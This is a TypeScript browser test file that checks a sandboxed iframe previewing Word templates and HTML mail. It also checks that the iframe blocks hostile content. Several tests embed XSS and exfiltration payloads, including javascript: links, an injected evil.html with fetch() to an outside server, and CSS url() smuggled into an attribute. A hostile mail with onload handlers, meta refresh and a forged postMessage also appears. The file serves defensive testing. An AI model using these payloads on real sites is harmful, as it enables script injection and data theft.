import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import type { Browser, Frame, Page } from "playwright-core";
import { afterAll, beforeAll, beforeEach, expect, test } from "vitest";
import { markOf } from "#engine/document/marks.ts";
import { previewTemplate } from "#engine/document/preview.ts";
import { p, smallDocument } from "#tests/fixtures/documents/small-document.ts";
import { openBrowser } from "#tests/support/browser.ts";
import { previewFrame } from "../../tools/vite/preview-frame.ts";

// The frame alone, in a page of ours that holds a secret, with another server that would hear of anything sent out.
const host = `<!doctype html><title>host</title><script>window.secret = "ours"; window.heard = [];
addEventListener("message", (e) => window.heard.push(e.data));</script>
<iframe id="f" src="/preview-frame.html" sandbox="allow-scripts" style="width:700px;height:500px"></iframe>`;
const pagePolicy = "default-src 'self'; script-src 'self' 'unsafe-inline'; style-src 'unsafe-inline'; frame-src 'self'";
const framePolicy =
  "sandbox allow-scripts; default-src 'none'; script-src 'unsafe-inline'; style-src 'unsafe-inline'; img-src blob: data:; font-src blob: data:; frame-ancestors 'self'";

let browser: Browser;
let server: Server;
let outside: Server;
let page: Page;
let frame: Frame;
let asked: string[] = [];

const listen = (made: Server): Promise<Server> =>
  new Promise((resolve) => made.listen(0, "127.0.0.1", () => resolve(made)));
const portOf = (made: Server): number => (made.address() as AddressInfo).port;

beforeAll(async () => {
  const content = await previewFrame();
  server = await listen(
    createServer((request, response) => {
      const framed = request.url === "/preview-frame.html";
      response.setHeader("content-type", "text/html; charset=utf-8");
      response.setHeader("content-security-policy", framed ? framePolicy : pagePolicy);
      response.end(framed ? content : host);
    }),
  );
  outside = await listen(
    createServer((request, response) => {
      asked.push(request.url ?? "");
      response.setHeader("access-control-allow-origin", "*").end("1");
    }),
  );
  browser = await openBrowser();
});
afterAll(async () => {
  await browser?.close();
  server?.close();
  outside?.close();
});
beforeEach(async () => {
  asked = [];
  page = await browser.newPage();
  await page.goto(`http://127.0.0.1:${portOf(server)}/`);
  frame = page.frames().find((f) => f.url().endsWith("/preview-frame.html")) as Frame;
  return () => page.close();
});

interface Host {
  heard: { type: string; turn?: number; path?: string; paths?: string[] }[];
}
const heard = () => page.evaluate(() => (window as unknown as Host).heard);
const until = async (type: string) => {
  await expect.poll(async () => (await heard()).some((m) => m.type === type)).toBe(true);
  return (await heard()).findLast((m) => m.type === type);
};
const say = (message: object) =>
  page.evaluate((m) => document.querySelector("iframe")?.contentWindow?.postMessage(m, "*"), message);
async function render(bytes: Uint8Array, mode: "template" | "answers" = "template"): Promise<string[]> {
  await until("ready");
  await page.evaluate(
    ([list, m]) => {
      const buffer = new Uint8Array(list as number[]).buffer;
      const message = { type: "render", turn: 1, bytes: buffer, mode: m };
      document.querySelector("iframe")?.contentWindow?.postMessage(message, "*");
    },
    [[...bytes], mode] as const,
  );
  return (await until("rendered"))?.paths ?? [];
}

test("a template shows its tags as places, in order, also those Word had split", async () => {
  const paths = await render(
    previewTemplate(
      smallDocument(p("Comparece {nom", "bre}, de {edad} años") + p("{#hijos}{nombre_hijo}{/hijos}{nombre}")),
    ),
  );
  expect(paths).toEqual(["nombre", "edad", "hijos", "hijos.nombre_hijo"]);
  await expect
    .poll(() => frame.locator(".place").allTextContents())
    .toEqual(["{nombre}", "{edad}", "{#hijos}", "{nombre_hijo}", "{/hijos}", "{nombre}"]);
  await expect.poll(() => frame.locator("#document").innerText()).not.toMatch(/[\u2062-\u2064]/);
});

test("values are patched, blanks show their label, and the chosen place is outlined and in view", async () => {
  const filler = p("línea").repeat(80);
  await render(smallDocument(p(markOf("comprador.0.nombre", "")) + filler + p(markOf("precio", "Q 1.00"))), "answers");
  await say({ type: "labels", labels: { "comprador.nombre": "Nombre del comprador" } });
  const [name, price] = [frame.locator(".place").first(), frame.locator(".place").last()];
  await expect.poll(() => name.textContent()).toBe("Nombre del comprador");
  await expect.poll(() => name.getAttribute("class")).toContain("empty");
  await say({ type: "patch", values: { "comprador.0.nombre": "Ana\nLucía <b>" } });
  await expect.poll(() => name.textContent()).toBe("Ana\nLucía <b>");
  await expect.poll(() => name.getAttribute("class")).not.toContain("empty");
  await say({ type: "current", path: "precio", scroll: true });
  await expect.poll(() => price.getAttribute("class")).toContain("current");
  await expect.poll(() => price.evaluate((e) => e.getBoundingClientRect().top < innerHeight)).toBe(true);
  await price.click();
  expect((await until("place"))?.path).toBe("precio");
});

test("a page is never wider than the frame", async () => {
  await page.setViewportSize({ width: 390, height: 700 });
  await page.evaluate(() => Object.assign(document.querySelector("iframe")?.style ?? {}, { width: "360px" }));
  await render(smallDocument(p("{nombre}")));
  const width = () => frame.evaluate(() => document.documentElement.scrollWidth - document.documentElement.clientWidth);
  await expect.poll(width).toBeLessThanOrEqual(0);
  // Shrunk as a picture is, not by a smaller font, which browsers keep from becoming too small; nothing blank follows.
  const fit = () =>
    frame.evaluate(() => {
      const container = document.getElementById("document") as HTMLElement;
      const sheet = (container.querySelector("section") as HTMLElement).getBoundingClientRect();
      const { scrollHeight, clientHeight } = document.documentElement;
      return {
        wide: sheet.width > 300 && sheet.right <= innerWidth,
        zoom: getComputedStyle(container).zoom,
        blank: scrollHeight > clientHeight && scrollHeight - scrollY - container.getBoundingClientRect().bottom > 2,
      };
    });
  await expect.poll(fit).toEqual({ wide: true, zoom: "1", blank: false });
  await say({ type: "patch", values: { nombre: "Ana ".repeat(3_000) } });
  await expect.poll(fit).toEqual({ wide: true, zoom: "1", blank: false });
});

test("a document that is none is answered as failed", async () => {
  await until("ready");
  await say({ type: "render", turn: 3, bytes: new ArrayBuffer(0), mode: "template" });
  expect((await until("failed"))?.turn).toBeDefined();
});

test("a hostile document runs nothing and reaches nothing", async () => {
  const out = `http://127.0.0.1:${portOf(outside)}`;
  const relationships = `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">
    <Relationship Id="a" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="javascript:parent.secret='stolen'" TargetMode="External"/>
    <Relationship Id="b" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/aFChunk" Target="evil.html"/>
    <Relationship Id="c" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="${out}/link" TargetMode="External"/></Relationships>`;
  const space = 'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"';
  const body =
    `<w:p><w:hyperlink ${space} r:id="a"><w:r><w:t>press</w:t></w:r></w:hyperlink></w:p>` +
    `<w:p><w:hyperlink ${space} r:id="c"><w:r><w:t>leave</w:t></w:r></w:hyperlink></w:p>` +
    `<w:altChunk ${space} r:id="b"/>` +
    `<w:p><w:pPr><w:shd w:fill="red;background:url(${out}/css)"/></w:pPr><w:r><w:t>&lt;img src=x onerror="parent.secret=1"&gt;</w:t></w:r></w:p>`;
  const more = {
    "word/_rels/document.xml.rels": relationships,
    "word/evil.html": `<script>parent.secret=1;fetch("${out}/chunk")</script><img src="${out}/img" onerror="fetch('${out}/x')">`,
  };
  await render(smallDocument(body, more));
  await expect.poll(() => frame.locator("a[href], iframe, script:not(body > script)").count()).toBe(0);
  await frame.getByText("press").click();
  await frame.getByText("leave").click();
  // What if the library let markup through: the policy of the frame stands behind it.
  await frame.evaluate((to) => {
    const container = document.getElementById("document") as HTMLElement;
    container.innerHTML = `<img src="${to}/img"><img src="data:x" onerror="window.ran = 1; new Image().src='${to}/handler'">
      <iframe srcdoc="<script>parent.ran=1</script>"></iframe><link rel="stylesheet" href="${to}/style"><div style="background:url(${to}/bg)">x</div>
      <form action="${to}/form"><button id="send">x</button></form><a id="away" href="${to}/away">x</a>`;
    const script = document.createElement("script");
    script.textContent = "window.ran = 1";
    container.append(script);
  }, out);
  await frame.evaluate(async (to) => {
    await fetch(`${to}/fetch`).catch(() => undefined);
    // Leaving for another address would carry words out, too.
    location.href = `${to}/leave?words`;
  }, out);
  await page.waitForTimeout(500);
  expect(asked).toEqual([]);
  expect(await page.evaluate(() => (window as unknown as { secret: unknown }).secret)).toBe("ours");
});

test("the frame cannot read the page it stands in", async () => {
  await until("ready");
  const reached = await frame.evaluate(() => {
    try {
      return String(window.parent.document.title);
    } catch {
      return "refused";
    }
  });
  expect(reached).toBe("refused");
  expect(await frame.evaluate(() => window.origin)).toBe("null");
});

test("a mail is drawn as it looks, and nothing in it acts, leads away or loads from elsewhere", async () => {
  const away = `http://127.0.0.1:${portOf(outside)}`;
  const picture = "data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7";
  const html = `<html><head><base href="${away}/"><style>@import "${away}/css"; .a { color: rgb(1, 2, 3); background: url(${away}/style) }</style>
    <link rel="stylesheet" href="${away}/link"><meta http-equiv="refresh" content="0;url=${away}/refresh"></head>
    <body onload="fetch('${away}/load')"><p class="a">Señora Paz</p><a href="${away}/a" onclick="fetch('${away}/click')">enlace</a>
    <img class="own" src="${picture}"><img class="far" src="${away}/img" srcset="${away}/set 2x" onerror="fetch('${away}/error')">
    <table background="${away}/table"><tr><td style="background-image:url(${away}/cell)">celda</td></tr></table>
    <script>fetch("${away}/script"); parent.postMessage({ type: "place", path: "stolen" }, "*")</script>
    <iframe src="${away}/frame"></iframe><object data="${away}/object"></object><svg><image href="${away}/svg"/></svg>
    <video poster="${away}/poster" src="${away}/video"></video><form action="${away}/form"><input autofocus name="q"></form></body></html>`;
  await until("ready");
  await say({ type: "mail", turn: 3, html });
  expect((await until("rendered"))?.turn).toBe(3);
  await frame.locator("a").click();
  await page.waitForTimeout(500);
  expect(asked).toEqual([]);
  expect((await heard()).some(({ path }) => path === "stolen")).toBe(false);
  expect(await frame.locator(".a").evaluate((one) => getComputedStyle(one).color)).toBe("rgb(1, 2, 3)");
  expect(await frame.locator("img.own").evaluate((one) => (one as HTMLImageElement).naturalWidth)).toBe(1);
  expect(await frame.locator("img.far").isVisible()).toBe(false);
  expect(
    await frame.locator(".mail :is(script, iframe, object, svg, video, form, input, link, base, meta)").count(),
  ).toBe(0);
  expect(frame.url()).toContain("/preview-frame.html");
});
